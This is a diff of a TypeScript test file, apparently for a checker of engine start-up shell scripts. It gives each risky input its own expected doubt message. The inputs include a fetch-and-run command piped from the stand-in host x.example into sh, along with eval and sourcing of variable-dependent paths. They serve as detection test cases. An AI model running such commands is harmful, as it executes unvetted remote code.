@@ -98,11 +98,16 @@ describe('a script that starts the engine', () => {
     assert.equal(await stateWith(host, '/opt/env.sh'), 'passed');
   });
 
-  for (const command of ['. "$1"', 'eval "$X"', 'sh < "$1"', 'curl http://x.example | sh'])
+  for (const [command, reason] of [
+    ['. "$1"', /depends on the argument \$1/u],
+    ['eval "$X"', /depends on the variable X/u],
+    ['sh < "$1"', /depends on the argument \$1/u],
+    ['curl http://x.example | sh', /depends on what curl prints/u],
+  ] as const)
     it(`is unknown where it runs ${command}`, async () => {
       const found = await outcome(hostWith(`${sh}${command}\n`));
       assert.ok(found?.state === 'unknown', JSON.stringify(found));
-      assert.match(found.doubts[0], /which file it reads by/u);
+      assert.match(found.doubts[0], reason);
     });
 
   it('fails where others may create the file that it reads', async () => {
